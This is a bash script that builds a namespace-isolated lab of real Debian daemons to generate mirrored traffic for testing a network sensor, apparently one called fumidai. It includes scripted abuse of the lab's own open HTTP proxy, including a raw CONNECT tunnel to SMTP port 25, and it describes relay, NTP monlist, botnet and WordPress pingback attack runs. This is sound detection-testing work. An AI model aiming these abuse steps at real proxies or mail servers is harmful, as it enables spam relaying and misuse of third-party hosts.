#!/usr/bin/env bash
# A lab of real Debian daemons in network namespaces, for fumidai's live-capture tests.
#
#   scripts/lab.sh up [MIRROR]      install what is missing, build the namespaces, start
#                                   the daemons, wait until each one answers. MIRROR is how
#                                   the bridge ports are mirrored: plain (default: to flmir0),
#                                   vxlan or erspan (remote SPAN: see below)
#   scripts/lab.sh attack           abuse them from the attacker (open proxy, open SOCKS,
#                                   CONNECT to SMTP, open relay, NTP mode 6, monlist replay)
#   scripts/lab.sh bots             the rest of the stepping-stone story: IRC bots through the
#                                   proxies, on odd ports, obeying their herder, assembling;
#                                   Shellshock probes; WordPress pingback reflection and
#                                   multicall brute force; bot DNS volume and MX lookups
#   scripts/lab.sh chains           proxy chains from the attacker, one connection each:
#                                   squid -> dante -> postfix (a relay attempt) and
#                                   dante -> squid -> nginx (an absolute-form GET)
#   scripts/lab.sh benign           ordinary use only (web page, local mail, time sync, an
#                                   IRC chat, a WordPress visit, a few DNS lookups)
#   scripts/lab.sh down             stop the daemons, remove namespaces and state
#   scripts/lab.sh capture [OUTDIR [RUN...]]  up, record each run (attack, bots, chains,
#                                   benign by default) from flmir0 into OUTDIR/lab-RUN.pcap, down
#   scripts/lab.sh record PCAP RUN  with the lab up (plain mirror): record one run from
#                                   flmir0 into PCAP
#   scripts/lab.sh versions         versions of the daemons and clients (dpkg)
#   scripts/lab.sh supports MIRROR  exit 0 if this machine can build that mirror, 3 if not
#
# Layout (all inside namespaces this script creates; nothing leaves the machine):
#
#   fl-att  att0  10.77.1.10/24 (may relay), 10.77.2.10/24 (may not)
#                 ngircd :6667 :5558 (the herder's IRC server), a web page on 10.77.2.10:80
#                 (the victim of pingback reflection)
#             |
#   fl-br   p-att --- br0 --- p-vic      tc: ingress of p-att and p-vic mirrored to flmir1
#                                               |
#   root ns                                 flmir0  <- the sensor listens here
#             |
#   fl-vic  vic0  10.77.0.2/24  squid :3128 :8080, danted :1080, postfix :25,
#                               nginx :80, ntpd (NTPsec) :123/udp, dnsmasq :53,
#                               apache2 + WordPress + MariaDB :8081
#                 10.77.0.3, .4, .11-.20/24: more home hosts (a person on IRC, a bot on an
#                               odd port, a botnet's members)
#
# Mirroring only the ingress of the two bridge ports shows every frame once, in both
# directions.
#
# Remote SPAN (MIRROR vxlan or erspan): the same tc mirror sends the frames into a Linux
# vxlan device (VNI 4242, UDP 4789) or erspan device (type II, session 100) in fl-br, whose
# underlay is a veth pair towards a collector namespace where the sensor listens. A kernel
# built without erspan devices (no CONFIG_NET_IPGRE) gets the same ERSPAN II frames from a
# user-space relay instead (scripts/lab/erspan-relay.py; FL_ERSPAN=relay forces it):
#
#   fl-br   fltun1 10.77.250.1/30  ----  fltun0 (no address)  fl-col   <- the sensor, here
#
# The collector port has no address, like a sensor port: the kernel there drops what it
# receives and answers nothing; fl-br knows its MAC statically. MTU 9000 on the underlay, so
# mirrored 1514-byte frames plus the tunnel's headers travel unfragmented. State (configs, pidfiles, logs, client transcripts) lives in
# ${FL_LAB_DIR:-/tmp/fumidai-lab}. Must run as root.
set -Eeuo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
TPL="$HERE/lab"
STATE=${FL_LAB_DIR:-/tmp/fumidai-lab}
MONLIST_PCAP=${FL_MONLIST_PCAP:-$HERE/../pcaps/ntpd426__monlist-150.pcap}
REPLAY_PPS=${FL_REPLAY_PPS:-1000}

NS_ATT=fl-att
NS_VIC=fl-vic
NS_BR=fl-br
ATT_IF=att0
VIC_IF=vic0
ATT_IP=10.77.1.10
ATT_IP2=10.77.2.10
VIC_IP=10.77.0.2
VIC_PERSON=10.77.0.3
VIC_ODD=10.77.0.4
VIC_BOTNET=(10.77.0.11 10.77.0.12 10.77.0.13 10.77.0.14 10.77.0.15 10.77.0.16 10.77.0.17 10.77.0.18
  10.77.0.19 10.77.0.20)
# WordPress's configuration is seen by the victim's namespace only (ip netns exec bind-mounts
# what /etc/netns/NS/ holds over /etc).
NETNS_ETC=/etc/netns/fl-vic
MIR_ROOT=flmir0
MIR_BR=flmir1
NS_COL=fl-col
TUN_BR=fltun1
TUN_COL=fltun0
TUN_BR_IP=10.77.250.1
TUN_COL_IP=10.77.250.2
VXLAN_DEV=flvx0
ERSPAN_DEV=fler0
# Where the kernel has no erspan device: mirror into this veth pair, relay in user space.
RELAY_IN=flmer0
RELAY_OUT=flmer1
ERSPAN_IMPL=kernel
VNI=4242
ERSPAN_SESSION=100

MARKER=.fumidai-lab

case "$STATE" in
  /*) ;;
  *) STATE="$PWD/$STATE" ;;
esac
case "$STATE" in
  *[!A-Za-z0-9/._-]*)
    echo "fumidai-lab: FL_LAB_DIR must be a plain path (letters, digits, / . _ -): $STATE" >&2
    exit 2
    ;;
esac

log() { printf 'fumidai-lab: %s\n' "$*" >&2; }
die() {
  log "error: $*"
  exit 1
}

# ---------------------------------------------------------------- helpers

in_ns() {
  local ns=$1
  shift
  ip netns exec "$ns" "$@"
}

ns_exists() { ip netns list 2>/dev/null | awk '{print $1}' | grep -qx "$1"; }

pkg_installed() {
  dpkg-query -W -f='${Status}' "$1" 2>/dev/null | grep -q 'install ok installed'
}

# Daemon logs, for failures.
show_logs() {
  local f
  [ -d "$STATE" ] || return 0
  for f in "$STATE"/squid/cache.log "$STATE"/squid/access.log "$STATE"/dante/danted.log \
    "$STATE"/postfix/maillog "$STATE"/nginx/error.log "$STATE"/ntp/ntpd.start.log "$STATE"/ntp/ntpd.log \
    "$STATE"/ngircd/ngircd.log "$STATE"/dnsmasq/dnsmasq.log "$STATE"/apache/error.log "$STATE"/mysql/mysql.err \
    "$STATE"/victim-web/http.log; do
    [ -s "$f" ] || continue
    printf '\n----- last lines of %s -----\n' "$f" >&2
    tail -n 15 "$f" >&2 || true
  done
}

on_error() {
  local rc=$? cmd=$1
  log "failed (exit $rc): $cmd (line ${BASH_LINENO[0]}, in ${FUNCNAME[1]:-main})"
  show_logs
  exit "$rc"
}

# Fill a template from scripts/lab/: @STATE@, @VIC_IP@, @VIC_IF@, @ATT_IP@, @PHP_VERSION@.
render() {
  local php
  php=$(php -r 'echo PHP_MAJOR_VERSION.".".PHP_MINOR_VERSION;' 2>/dev/null || echo 8.2)
  sed -e "s|@STATE@|$STATE|g" -e "s|@VIC_IP@|$VIC_IP|g" -e "s|@VIC_IF@|$VIC_IF|g" \
    -e "s|@ATT_IP@|$ATT_IP|g" -e "s|@PHP_VERSION@|$php|g" "$TPL/$1" >"$2"
}

# ---------------------------------------------------------------- packages

ensure_packages() {
  local missing=() p
  for p in squid dante-server postfix ntpsec swaks ncat curl tcpreplay tcpdump iproute2 ethtool \
    ngircd dnsmasq-base bind9-dnsutils python3 wordpress apache2 libapache2-mod-php php-mysql php-xml \
    mariadb-server; do
    pkg_installed "$p" || missing+=("$p")
  done
  if ! pkg_installed nginx-light && ! pkg_installed nginx && ! command -v nginx >/dev/null; then
    missing+=(nginx-light)
  fi
  if ! command -v ntpdig >/dev/null && ! command -v sntp >/dev/null; then
    missing+=(ntpsec-ntpdig)
  fi
  # ntpq is part of ntpsec in Debian 12 and its own package (ntpsec-ntpq) later.
  local want_ntpq=0
  command -v ntpq >/dev/null || want_ntpq=1
  [ ${#missing[@]} -eq 0 ] && [ $want_ntpq -eq 0 ] && return 0
  log "installing missing packages (apt): ${missing[*]}${missing[*]:+ }$([ $want_ntpq -eq 1 ] && echo '(and ntpq)')"
  export DEBIAN_FRONTEND=noninteractive
  # The system's own postfix stays unconfigured: the lab runs its own instance.
  echo 'postfix postfix/main_mailer_type select No configuration' | debconf-set-selections
  # Keep package scripts from starting system instances of the daemons.
  local made_policy=0
  if [ ! -e /usr/sbin/policy-rc.d ]; then
    printf '#!/bin/sh\nexit 101\n' >/usr/sbin/policy-rc.d
    chmod 755 /usr/sbin/policy-rc.d
    made_policy=1
  fi
  local rc=0
  timeout 300 apt-get update -qq || rc=$?
  if [ $want_ntpq -eq 1 ] && apt-cache show ntpsec-ntpq >/dev/null 2>&1; then
    missing+=(ntpsec-ntpq)
  fi
  if [ $rc -eq 0 ]; then
    timeout 900 apt-get install -y -qq --no-install-recommends \
      -o Dpkg::Options::=--force-confdef -o Dpkg::Options::=--force-confold \
      "${missing[@]}" >"${TMPDIR:-/tmp}/fumidai-lab-apt.log" 2>&1 || rc=$?
  fi
  if [ $made_policy -eq 1 ]; then rm -f /usr/sbin/policy-rc.d; fi
  if [ $rc -ne 0 ]; then
    tail -n 30 "${TMPDIR:-/tmp}/fumidai-lab-apt.log" >&2 || true
    die "apt-get failed (exit $rc)"
  fi
}

# ---------------------------------------------------------------- network

setup_network() {
  log "creating namespaces $NS_ATT, $NS_BR, $NS_VIC and mirror $MIR_ROOT"
  ip netns add "$NS_BR"
  ip netns add "$NS_ATT"
  ip netns add "$NS_VIC"

  # The bridge namespace speaks no IPv6 of its own (no stray ND/MLD on the mirror).
  in_ns "$NS_BR" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
  in_ns "$NS_BR" ip link add br0 type bridge stp_state 0
  ip link add "$ATT_IF" netns "$NS_ATT" type veth peer name p-att netns "$NS_BR"
  ip link add "$VIC_IF" netns "$NS_VIC" type veth peer name p-vic netns "$NS_BR"
  ip link add "$MIR_ROOT" type veth peer name "$MIR_BR" netns "$NS_BR"

  # Hosts: IPv4 only on the wire, real MTU-sized frames (no GSO/TSO super-frames, no
  # partial checksums) so the mirror shows what a physical link would carry.
  local ns ifc ns_if
  for ns_if in "$NS_ATT:$ATT_IF" "$NS_VIC:$VIC_IF"; do
    ns=${ns_if%%:*} ifc=${ns_if#*:}
    in_ns "$ns" sysctl -qw "net.ipv6.conf.$ifc.disable_ipv6=1"
    in_ns "$ns" ethtool -K "$ifc" tx off rx off tso off gso off gro off >/dev/null 2>&1 || true
    in_ns "$ns" ip link set lo up
    in_ns "$ns" ip link set "$ifc" up
  done
  for ifc in p-att p-vic "$MIR_BR"; do
    in_ns "$NS_BR" ethtool -K "$ifc" tso off gso off gro off >/dev/null 2>&1 || true
  done
  in_ns "$NS_BR" ip link set p-att master br0
  in_ns "$NS_BR" ip link set p-vic master br0
  in_ns "$NS_BR" ip link set br0 up
  in_ns "$NS_BR" ip link set p-att up
  in_ns "$NS_BR" ip link set p-vic up
  in_ns "$NS_BR" ip link set "$MIR_BR" up

  sysctl -qw "net.ipv6.conf.$MIR_ROOT.disable_ipv6=1"
  ethtool -K "$MIR_ROOT" gro off >/dev/null 2>&1 || true
  ip link set "$MIR_ROOT" up

  # One L2 segment, three /24s: on-link routes, no router.
  in_ns "$NS_ATT" ip addr add "$ATT_IP/24" dev "$ATT_IF"
  in_ns "$NS_ATT" ip addr add "$ATT_IP2/24" dev "$ATT_IF"
  in_ns "$NS_ATT" ip route add 10.77.0.0/24 dev "$ATT_IF" src "$ATT_IP"
  in_ns "$NS_VIC" ip addr add "$VIC_IP/24" dev "$VIC_IF"
  local a
  for a in "$VIC_PERSON" "$VIC_ODD" "${VIC_BOTNET[@]}"; do
    in_ns "$NS_VIC" ip addr add "$a/24" dev "$VIC_IF"
  done
  in_ns "$NS_VIC" ip route add 10.77.1.0/24 dev "$VIC_IF"
  in_ns "$NS_VIC" ip route add 10.77.2.0/24 dev "$VIC_IF"

  local target=$MIR_BR
  case "$MIRROR" in
    vxlan | erspan) setup_remote_span; target=$(mirror_dev) ;;
  esac
  # The SPAN: every frame entering the bridge from either host, copied to the mirror.
  # matchall where the kernel has it, else u32 matching every frame (cls_u32 is more common).
  for ifc in p-att p-vic; do
    in_ns "$NS_BR" tc qdisc add dev "$ifc" ingress
    if ! in_ns "$NS_BR" tc filter add dev "$ifc" parent ffff: protocol all matchall \
      action mirred egress mirror dev "$target" 2>/dev/null; then
      in_ns "$NS_BR" tc filter add dev "$ifc" parent ffff: protocol all u32 match u32 0 0 \
        action mirred egress mirror dev "$target"
    fi
  done
  echo "$MIRROR" >"$STATE/mirror"
}

# The device the bridge ports are mirrored into for the current MIRROR.
mirror_dev() {
  case "$MIRROR" in
    vxlan) echo "$VXLAN_DEV" ;;
    erspan)
      # Later commands (attack) learn how `up` built the mirror from the state directory.
      if [ "$ERSPAN_IMPL" = relay ] || [ "$(cat "$STATE/erspan-impl" 2>/dev/null)" = relay ]; then
        echo "$RELAY_IN"
      else
        echo "$ERSPAN_DEV"
      fi
      ;;
    *) echo "$MIR_BR" ;;
  esac
}

# tunnel_args MIRROR: the `ip link add ... type` arguments of that mirror's tunnel device.
tunnel_args() {
  case "$1" in
    vxlan) echo "vxlan id $VNI local $TUN_BR_IP remote $TUN_COL_IP dstport 4789 nolearning" ;;
    erspan) echo "erspan seq key $ERSPAN_SESSION local $TUN_BR_IP remote $TUN_COL_IP erspan_ver 1 erspan 7" ;;
    *) die "unknown mirror $1 (plain, vxlan or erspan)" ;;
  esac
}

# Remote SPAN: the collector namespace, the underlay to it, the tunnel device.
setup_remote_span() {
  log "remote SPAN over $MIRROR: $NS_BR/$TUN_BR -> $NS_COL/$TUN_COL"
  ip netns add "$NS_COL"
  in_ns "$NS_COL" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
  ip link add "$TUN_BR" netns "$NS_BR" type veth peer name "$TUN_COL" netns "$NS_COL"
  in_ns "$NS_BR" ip link set "$TUN_BR" mtu 9000
  in_ns "$NS_COL" ip link set "$TUN_COL" mtu 9000
  in_ns "$NS_BR" ethtool -K "$TUN_BR" tso off gso off gro off >/dev/null 2>&1 || true
  in_ns "$NS_COL" ethtool -K "$TUN_COL" gro off lro off >/dev/null 2>&1 || true
  in_ns "$NS_COL" ip link set lo up
  in_ns "$NS_COL" ip link set "$TUN_COL" up
  in_ns "$NS_BR" ip addr add "$TUN_BR_IP/30" dev "$TUN_BR"
  in_ns "$NS_BR" ip link set "$TUN_BR" up
  local mac
  mac=$(in_ns "$NS_COL" cat "/sys/class/net/$TUN_COL/address")
  in_ns "$NS_BR" ip neigh replace "$TUN_COL_IP" lladdr "$mac" dev "$TUN_BR" nud permanent
  if [ "$MIRROR" = erspan ] && { [ "${FL_ERSPAN:-}" = relay ] || ! kernel_has erspan; }; then
    start_erspan_relay "$mac"
    return
  fi
  local dev
  dev=$(mirror_dev)
  # shellcheck disable=SC2046
  in_ns "$NS_BR" ip link add "$dev" type $(tunnel_args "$MIRROR") ||
    die "this kernel cannot create a $MIRROR device (see: $0 supports $MIRROR)"
  in_ns "$NS_BR" ethtool -K "$dev" tso off gso off gro off >/dev/null 2>&1 || true
  in_ns "$NS_BR" ip link set "$dev" up
  echo kernel >"$STATE/erspan-impl"
}

# ERSPAN without the kernel's erspan device: tc mirrors into one end of a veth pair and
# scripts/lab/erspan-relay.py puts each frame on the underlay in the same GRE/ERSPAN II
# encapsulation a Linux erspan device (type II, seq, session ERSPAN_SESSION) would.
start_erspan_relay() {
  local collector_mac=$1 ready="$STATE/erspan-relay.ready"
  ERSPAN_IMPL=relay
  log "no erspan device in this kernel: ERSPAN II encapsulated in user space ($TPL/erspan-relay.py)"
  in_ns "$NS_BR" ip link add "$RELAY_IN" type veth peer name "$RELAY_OUT"
  local ifc
  for ifc in "$RELAY_IN" "$RELAY_OUT"; do
    in_ns "$NS_BR" ip link set "$ifc" mtu 9000
    in_ns "$NS_BR" ethtool -K "$ifc" tso off gso off gro off >/dev/null 2>&1 || true
    in_ns "$NS_BR" ip link set "$ifc" up
  done
  rm -f "$ready"
  # ip netns exec execs python3: $! is the relay's own pid.
  ip netns exec "$NS_BR" python3 "$TPL/erspan-relay.py" --in "$RELAY_OUT" --out "$TUN_BR" \
    --local "$TUN_BR_IP" --remote "$TUN_COL_IP" --remote-mac "$collector_mac" \
    --session "$ERSPAN_SESSION" --index 7 --ready "$ready" \
    </dev/null >>"$STATE/erspan-relay.log" 2>&1 &
  echo $! >"$STATE/erspan-relay.pid"
  for _ in $(seq 1 50); do
    [ -e "$ready" ] && break
    kill -0 "$(cat "$STATE/erspan-relay.pid")" 2>/dev/null || die "erspan relay died: $(cat "$STATE/erspan-relay.log")"
    sleep 0.1
  done
  [ -e "$ready" ] || die "erspan relay did not start within 5 s"
  echo relay >"$STATE/erspan-impl"
}

# supports MIRROR: whether this machine can build that mirror. vxlan needs CONFIG_VXLAN;
# erspan uses the kernel's device (CONFIG_NET_IPGRE) where there is one, else the relay.
cmd_supports() {
  local mirror=${1:-plain}
  [ "$mirror" = plain ] && return 0
  [ "$(id -u)" -eq 0 ] || die "must run as root"
  kernel_has "$mirror" && return 0
  if [ "$mirror" = erspan ] && command -v python3 >/dev/null; then
    log "this kernel cannot create erspan devices ($(uname -r)): the lab encapsulates ERSPAN II in user space"
    return 0
  fi
  log "this kernel cannot create $mirror devices ($(uname -r))"
  return 3
}

# kernel_has MIRROR: whether this kernel can create that tunnel device.
kernel_has() {
  local ns=fl-probe-$$ rc=0 args
  args=$(tunnel_args "$1")
  ip netns add "$ns"
  # shellcheck disable=SC2086
  ip netns exec "$ns" ip link add probe0 type $args 2>/dev/null || rc=3
  ip netns del "$ns"
  return $rc
}

# ---------------------------------------------------------------- daemons

prepare_state() {
  mkdir -p "$STATE"
  touch "$STATE/$MARKER"
  chmod 755 "$STATE"
  mkdir -p "$STATE"/{squid,dante,nginx,ntp,www,out,ngircd,dnsmasq,apache,victim-web} \
    "$STATE"/postfix/{etc,spool,data,mail} "$STATE"/mysql/{data,run} "$STATE"/wp/mu-plugins
  chown proxy:proxy "$STATE/squid"
  chown postfix:postfix "$STATE/postfix/data"
  chmod 1777 "$STATE/postfix/mail"
  cp "$TPL/index.html" "$STATE/www/index.html"
  chmod -R a+rX "$STATE/www"
  chown irc:irc "$STATE/ngircd"
  chown nobody:nogroup "$STATE/dnsmasq"
  chown -R mysql:mysql "$STATE/mysql"
  printf '<html><body>the victim of a pingback flood</body></html>\n' >"$STATE/victim-web/index.html"
}

start_nginx() {
  render nginx.conf.in "$STATE/nginx/nginx.conf"
  in_ns "$NS_VIC" nginx -q -t -p "$STATE/nginx" -e "$STATE/nginx/error.log" -c "$STATE/nginx/nginx.conf"
  in_ns "$NS_VIC" nginx -p "$STATE/nginx" -e "$STATE/nginx/error.log" -c "$STATE/nginx/nginx.conf"
}

start_squid() {
  render squid.conf.in "$STATE/squid/squid.conf"
  in_ns "$NS_VIC" squid -k parse -f "$STATE/squid/squid.conf" >"$STATE/squid/parse.log" 2>&1 ||
    {
      tail -n 20 "$STATE/squid/parse.log" >&2
      die "squid rejected its configuration"
    }
  in_ns "$NS_VIC" squid -f "$STATE/squid/squid.conf"
}

start_dante() {
  render danted.conf.in "$STATE/dante/danted.conf"
  in_ns "$NS_VIC" danted -D -f "$STATE/dante/danted.conf" -p "$STATE/dante/danted.pid"
}

start_postfix() {
  local etc="$STATE/postfix/etc" master_src=/usr/share/postfix/master.cf.dist
  [ -f "$master_src" ] || master_src=/etc/postfix/master.cf
  render postfix-main.cf.in "$etc/main.cf"
  cp "$master_src" "$etc/master.cf"
  # Run nothing chrooted: the queue directory is not a prepared chroot.
  postconf -c "$etc" -F '*/*/chroot = n'
  postconf -c "$etc" -e "config_directory = $etc"
  in_ns "$NS_VIC" postfix -c "$etc" check
  in_ns "$NS_VIC" postfix -c "$etc" start
}

start_ngircd() {
  render ngircd.conf.in "$STATE/ngircd/ngircd.conf"
  in_ns "$NS_ATT" ngircd --configtest -f "$STATE/ngircd/ngircd.conf" >"$STATE/ngircd/configtest.log" 2>&1 ||
    {
      tail -n 20 "$STATE/ngircd/configtest.log" >&2
      die "ngircd rejected its configuration"
    }
  in_ns "$NS_ATT" ngircd -f "$STATE/ngircd/ngircd.conf" >"$STATE/ngircd/ngircd.log" 2>&1
}

start_dnsmasq() {
  in_ns "$NS_VIC" dnsmasq --no-resolv --no-hosts --bind-interfaces --listen-address="$VIC_IP" \
    --except-interface=lo --address=/victim.lab/"$VIC_IP" --mx-host=victim.lab,mail.victim.lab,10 \
    --pid-file="$STATE/dnsmasq/dnsmasq.pid" --log-facility="$STATE/dnsmasq/dnsmasq.log" --user=nobody
}

# The pingback flood's victim: a page on the attacker's second address.
start_victim_web() {
  in_ns "$NS_ATT" python3 -m http.server 80 --bind "$ATT_IP2" --directory "$STATE/victim-web" \
    >"$STATE/victim-web/http.log" 2>&1 &
  echo $! >"$STATE/victim-web/http.pid"
}

# Debian's WordPress on apache2 (mod_php) with its own MariaDB, installed through its own
# installer as a visitor would; a post open to pingbacks is its first.
start_wordpress() {
  local db="$STATE/mysql" sock="$STATE/mysql/run/mysqld.sock"
  mariadb-install-db --user=mysql --datadir="$db/data" --auth-root-authentication-method=socket \
    --skip-test-db >"$db/install-db.log" 2>&1 || die "mariadb-install-db failed"
  in_ns "$NS_VIC" mariadbd --user=mysql --datadir="$db/data" --socket="$sock" \
    --pid-file="$db/run/mysqld.pid" --skip-networking --log-error="$db/mysql.err" >/dev/null 2>&1 &
  for _ in $(seq 1 50); do
    [ -S "$sock" ] && break
    sleep 0.2
  done
  [ -S "$sock" ] || die "mariadbd did not start"
  in_ns "$NS_VIC" mariadb --socket="$sock" -e \
    "CREATE DATABASE wp; CREATE USER 'wp'@'localhost' IDENTIFIED BY 'wp'; GRANT ALL ON wp.* TO 'wp'@'localhost';"
  mkdir -p "$NETNS_ETC/wordpress"
  render wp-config-lab.php.in "$NETNS_ETC/wordpress/config-lab.php"
  chmod 644 "$NETNS_ETC/wordpress/config-lab.php"
  cp "$TPL/wp-lab-plugin.php" "$STATE/wp/mu-plugins/lab.php"
  chmod -R a+rX "$STATE/wp"
  render apache2.conf.in "$STATE/apache/apache2.conf"
  in_ns "$NS_VIC" apache2 -f "$STATE/apache/apache2.conf" -k start
  wait_listen apache2 tcp 8081
  local out="$STATE/apache/install.html" rc=0
  in_ns "$NS_VIC" curl -sS --max-time 30 -o "$out" -w '%{http_code}' -H 'Host: wp.victim.lab:8081' \
    --data 'weblog_title=Lab&user_name=admin&admin_password=fumidai-lab-pw&admin_password2=fumidai-lab-pw&pw_weak=1&admin_email=admin%40victim.lab&blog_public=0' \
    "http://$VIC_IP:8081/wp-admin/install.php?step=2" >"$STATE/apache/install.code" 2>&1 || rc=$?
  grep -q '^200$' "$STATE/apache/install.code" || die "WordPress did not install (curl $rc, $(cat "$STATE/apache/install.code"))"
}

start_ntpd() {
  render ntp.conf.in "$STATE/ntp/ntp.conf"
  in_ns "$NS_VIC" ntpd -c "$STATE/ntp/ntp.conf" -p "$STATE/ntp/ntpd.pid" -l "$STATE/ntp/ntpd.log" \
    >"$STATE/ntp/ntpd.start.log" 2>&1
}

# Wait (bounded) until something listens on proto/port inside the victim namespace.
wait_listen() {
  wait_listen_in "$NS_VIC" "$@"
}

wait_listen_in() {
  local ns=$1 name=$2 proto=$3 port=$4
  for _ in $(seq 1 40); do
    if in_ns "$ns" ss -Hln"${proto:0:1}" "sport = :$port" | grep -q .; then
      log "$name listens on $proto/$port"
      return 0
    fi
    sleep 0.5
  done
  die "$name is not listening on $proto/$port after 20 s"
}

# ---------------------------------------------------------------- up / down

# Stop a daemon by its pidfile: TERM, bounded wait, KILL.
stop_pidfile() {
  local name=$1 file=$2 pid
  [ -s "$file" ] || return 0
  pid=$(tr -dc '0-9' <"$file" | head -c 10)
  [ -n "$pid" ] || return 0
  kill -0 "$pid" 2>/dev/null || return 0
  log "stopping $name (pid $pid)"
  kill -TERM "$pid" 2>/dev/null || true
  for _ in $(seq 1 50); do
    kill -0 "$pid" 2>/dev/null || return 0
    sleep 0.1
  done
  kill -KILL "$pid" 2>/dev/null || true
}

# Kill whatever is still running inside one of our namespaces, by PID.
kill_ns_pids() {
  local ns=$1 pids
  ns_exists "$ns" || return 0
  pids=$(ip netns pids "$ns" 2>/dev/null | tr '\n' ' ')
  [ -n "${pids// /}" ] || return 0
  log "terminating leftover processes in $ns: $pids"
  # shellcheck disable=SC2086
  kill -TERM $pids 2>/dev/null || true
  for _ in $(seq 1 30); do
    pids=$(ip netns pids "$ns" 2>/dev/null | tr '\n' ' ')
    [ -n "${pids// /}" ] || return 0
    sleep 0.1
  done
  # shellcheck disable=SC2086
  kill -KILL $pids 2>/dev/null || true
  sleep 0.2
}

cmd_down() {
  if [ -d "$STATE/postfix/etc" ] && [ -f "$STATE/postfix/etc/main.cf" ] && ns_exists "$NS_VIC"; then
    in_ns "$NS_VIC" timeout 20 postfix -c "$STATE/postfix/etc" stop >/dev/null 2>&1 || true
  fi
  stop_pidfile postfix "$STATE/postfix/spool/pid/master.pid"
  stop_pidfile squid "$STATE/squid/squid.pid"
  stop_pidfile danted "$STATE/dante/danted.pid"
  stop_pidfile nginx "$STATE/nginx/nginx.pid"
  stop_pidfile ntpd "$STATE/ntp/ntpd.pid"
  stop_pidfile erspan-relay "$STATE/erspan-relay.pid"
  stop_pidfile ngircd "$STATE/ngircd/ngircd.pid"
  stop_pidfile dnsmasq "$STATE/dnsmasq/dnsmasq.pid"
  stop_pidfile victim-web "$STATE/victim-web/http.pid"
  stop_pidfile apache2 "$STATE/apache/apache2.pid"
  stop_pidfile mariadbd "$STATE/mysql/run/mysqld.pid"
  rm -f "$NETNS_ETC/wordpress/config-lab.php"
  rmdir "$NETNS_ETC/wordpress" "$NETNS_ETC" 2>/dev/null || true
  local ns
  for ns in "$NS_COL" "$NS_VIC" "$NS_ATT" "$NS_BR"; do
    kill_ns_pids "$ns"
    if ns_exists "$ns"; then
      log "deleting namespace $ns"
      ip netns del "$ns"
    fi
  done
  if ip link show "$MIR_ROOT" >/dev/null 2>&1; then
    ip link del "$MIR_ROOT"
  fi
  if [ -d "$STATE" ]; then
    case "$STATE" in
      / | /tmp | /root | /home | /var | /usr | /etc | "") die "refusing to remove $STATE" ;;
    esac
    [ -e "$STATE/$MARKER" ] || die "$STATE exists but is not a lab directory ($MARKER missing); not removing it"
    rm -rf "$STATE"
  fi
}

cmd_up() {
  [ "$(id -u)" -eq 0 ] || die "must run as root"
  MIRROR=${1:-plain}
  case "$MIRROR" in plain | vxlan | erspan) ;; *) die "unknown mirror $MIRROR (plain, vxlan or erspan)" ;; esac
  ensure_packages
  if [ "$MIRROR" != plain ] && ! cmd_supports "$MIRROR"; then
    die "cannot build a $MIRROR mirror on this kernel"
  fi
  cmd_down
  prepare_state
  setup_network
  log "starting daemons in $NS_VIC (state in $STATE)"
  start_nginx
  start_squid
  start_dante
  start_postfix
  start_ntpd
  start_ngircd
  start_dnsmasq
  start_victim_web
  start_wordpress
  wait_listen nginx tcp 80
  wait_listen squid tcp 3128
  wait_listen squid tcp 8080
  wait_listen danted tcp 1080
  wait_listen postfix tcp 25
  wait_listen ntpd udp 123
  wait_listen dnsmasq udp 53
  wait_listen_in "$NS_ATT" ngircd tcp 6667
  wait_listen_in "$NS_ATT" ngircd tcp 5558
  wait_listen_in "$NS_ATT" victim-web tcp 80
  if [ "$MIRROR" = plain ]; then
    log "lab is up: sensor interface $MIR_ROOT (root namespace)"
  else
    log "lab is up: sensor interface $TUN_COL in namespace $NS_COL ($MIRROR from $TUN_BR_IP)"
  fi
}

require_up() {
  if ! ns_exists "$NS_ATT" || ! ns_exists "$NS_VIC"; then
    die "lab is not up (run: $0 up)"
  fi
  mkdir -p "$STATE/out"
  MIRROR=$(cat "$STATE/mirror" 2>/dev/null || echo plain)
}

# ---------------------------------------------------------------- traffic

FAILS=0

# verdict NAME PATTERN FILE RC: report whether a client's transcript shows PATTERN.
verdict() {
  local name=$1 pattern=$2 out=$3 rc=$4
  if grep -Eq -- "$pattern" "$out"; then
    log "ok   $name: $(grep -Em1 -- "$pattern" "$out" | tr -d '\r' | cut -c1-100)"
  else
    log "FAIL $name (exit $rc): no /$pattern/ in $out"
    tail -n 15 "$out" >&2 || true
    FAILS=$((FAILS + 1))
  fi
}

# check NAME PATTERN CMD...: run CMD in the attacker namespace (bounded by `timeout`),
# keep its transcript in $STATE/out/NAME.txt, and require PATTERN (grep -E) in it.
check() {
  check_in "$NS_ATT" "$@"
}

# check_in NS NAME PATTERN CMD...: the same, in namespace NS.
check_in() {
  local ns=$1 name=$2 pattern=$3 rc=0
  shift 3
  local out="$STATE/out/$name.txt"
  in_ns "$ns" timeout 30 "$@" >"$out" 2>&1 </dev/null || rc=$?
  verdict "$name" "$pattern" "$out" "$rc"
}

# Like check, with a hand-written request on stdin: the first part at once, the second
# (may be empty) a second later; stdin stays open one more second so that a proxy does not
# take the client's half-close for the end of the tunnel before the server has spoken.
check_stdin() {
  local name=$1 pattern=$2 first=$3 second=$4 rc=0
  shift 4
  local out="$STATE/out/$name.txt"
  {
    printf '%b' "$first"
    sleep 1
    printf '%b' "$second"
    sleep 1
  } | in_ns "$NS_ATT" timeout 30 "$@" >"$out" 2>&1 || rc=$?
  verdict "$name" "$pattern" "$out" "$rc"
}

SWAKS_COMMON=(--timeout 10 --helo attacker.example --body 'fumidai lab test message')

finish() {
  local what=$1
  if [ "$FAILS" -gt 0 ]; then
    log "$what: $FAILS check(s) failed"
    show_logs
    exit 1
  fi
  log "$what: all checks passed (transcripts in $STATE/out)"
}

cmd_attack() {
  require_up
  local url="http://$VIC_IP/"
  log "attack: open HTTP proxy (squid :8080), absolute-form GET"
  check proxy-get '^HTTP/1\.[01] 200' curl -sS -i --max-time 10 -x "http://$VIC_IP:8080" "$url"

  log "attack: CONNECT to port 25 through squid, SMTP inside the tunnel"
  check_stdin proxy-connect-raw '^220 mail\.victim\.lab' \
    "CONNECT $VIC_IP:25 HTTP/1.1\r\nHost: $VIC_IP:25\r\n\r\n" 'QUIT\r\n' \
    ncat -i 5 "$VIC_IP" 8080
  grep -q '^HTTP/1\.[01] 200 Connection established' "$STATE/out/proxy-connect-raw.txt" || {
    log "FAIL proxy-connect-raw: squid did not answer 200 Connection established"
    FAILS=$((FAILS + 1))
  }
